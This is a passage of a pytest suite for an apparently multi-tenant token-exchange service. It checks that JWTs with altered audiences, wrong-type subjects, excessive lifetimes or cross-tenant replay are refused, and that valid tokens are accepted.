        "nested array": [[aud]],
        "upper case": aud.upper(),
        "trailing slash": aud + "/",
        "leading space": " " + aud,
        "prefix": aud[:-1],
        "suffix": aud + ".evil.example",
        "comma-joined": f"{aud},other",
        "space-joined": f"other {aud}",
    }


@pytest.mark.parametrize("endpoint, case", routes(_aud_cases("sts.amazonaws.com")))
def test_audience_variations_are_refused(endpoint, case, client, upstream):
    payload = _claims_with(upstream, {"aud": _aud_cases(upstream.audience)[case]})
    header = jose.segment(rsa_header(upstream))
    data = f"{header}.{jose.b64u(payload.encode())}"
    token = f"{data}.{jose.b64u(jose.rs256(upstream.rsa_key, data))}"
    refused(endpoint, client, token, 401, "invalid_token", upstream=upstream)


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_audience_array_containing_ours_is_accepted(endpoint, client, upstream):
    token = jose.signed(
        rsa_header(upstream), upstream.claims(aud=["other", upstream.audience]), rsa_key=upstream.rsa_key
    )
    assert send(endpoint, client, token).status_code == 200


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize("sub", [123, None, ["repo:octo-org/octo-repo"], {"sub": "x"}, True], ids=str)
def test_subject_of_wrong_type_is_refused(endpoint, sub, client, upstream):
    claims = upstream.claims()
    claims["sub"] = sub
    token = jose.signed(rsa_header(upstream), claims, rsa_key=upstream.rsa_key)
    refused(endpoint, client, token, 401, "invalid_token")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_lifetime_over_issuer_maximum_is_refused(endpoint, client, issuer, upstream):
    now = int(time.time())
    cases = [
        {"iat": now, "nbf": now, "exp": now + 86400 + 1},  # default max_token_age 86,400 s
        {"iat": None, "nbf": None, "exp": now + 86400 + 120},  # no iat: counted from now
        {"iat": now - 86400, "nbf": now - 86400, "exp": now + 2},  # old token still "valid"
    ]
    for changes in cases:
        token = jose.signed(rsa_header(upstream), json.loads(_claims_with(upstream, changes)), rsa_key=upstream.rsa_key)
        refused(endpoint, client, token, 401, "invalid_token")
    issuer.max_token_age = 600
    issuer.save()
    token = jose.signed(rsa_header(upstream), upstream.claims(exp=now + 900), rsa_key=upstream.rsa_key)
    refused(endpoint, client, token, 401, "invalid_token")
    token = jose.signed(rsa_header(upstream), upstream.claims(exp=now + 600), rsa_key=upstream.rsa_key)
    assert send(endpoint, client, token).status_code == 200  # exactly at the maximum


# --- tenants ---------------------------------------------------------------------------------


@pytest.fixture
def globex(db, other_upstream):
    """A second tenant with its own upstream and a rule that would allow anything from it."""
    tenant = make_tenant("globex", name="Globex", rate_limit_per_minute=0)
    issuer = Issuer.objects.create(
        tenant=tenant,
        issuer_id="gci",
        issuer=other_upstream.issuer,
        audiences=[other_upstream.audience],
        static_jwks=other_upstream.jwks,
    )
    rule = Rule.objects.create(tenant=tenant, name="anything", when="true", effect="allow")
    rule.issuers.add(issuer)
    return tenant


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_token_for_one_tenants_issuer_sent_to_another_tenant_is_refused(
    endpoint, client, upstream, other_upstream, globex
):
    acme_token = jose.signed(rsa_header(upstream), upstream.claims(), rsa_key=upstream.rsa_key)
    # Globex does not trust acme's upstream at all.
    refused(endpoint, client, acme_token, 401, "invalid_token", slug="globex")
    if endpoint != "rfc8693":
        # Pinned to globex's own issuer: wrong iss and a key globex's issuer does not publish.
        refused(endpoint, client, acme_token, 401, "invalid_token", slug="globex", issuer_id="gci")
        # Pinned to acme's issuer id: globex has no such issuer.
        refused(endpoint, client, acme_token, 404, "not_found", slug="globex", issuer_id="ci")
    # And the other way round: globex's token is nothing to acme.
    globex_token = jose.signed(
        {"alg": "RS256", "kid": other_upstream.rsa_kid}, other_upstream.claims(), rsa_key=other_upstream.rsa_key
    )
    refused(endpoint, client, globex_token, 401, "invalid_token", slug="acme")
    # Control: each tenant accepts its own token.
    assert send(endpoint, client, globex_token, slug="globex").status_code == 200


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_same_upstream_with_another_audience_in_another_tenant_is_refused(endpoint, client, upstream, globex):
    # Globex trusts the same upstream (same iss, same keys) but for its own audience: a token
    # minted for acme (aud sts.amazonaws.com) must not be replayable at globex.
    Issuer.objects.create(
        tenant=globex, issuer_id="ci", issuer=upstream.issuer, audiences=["globex.example"], static_jwks=upstream.jwks
    )
    rule = Rule.objects.get(tenant=globex)
    rule.issuers.add(Issuer.objects.get(tenant=globex, issuer_id="ci"))
    acme_token = jose.signed(rsa_header(upstream), upstream.claims(), rsa_key=upstream.rsa_key)
    refused(endpoint, client, acme_token, 401, "invalid_token", slug="globex")
    if endpoint != "rfc8693":
        refused(endpoint, client, acme_token, 401, "invalid_token", slug="globex", issuer_id="ci")
    globex_token = jose.signed(rsa_header(upstream), upstream.claims(aud="globex.example"), rsa_key=upstream.rsa_key)
    refused(endpoint, client, globex_token, 401, "invalid_token", slug="acme")
    assert send(endpoint, client, globex_token, slug="globex").status_code == 200  # control
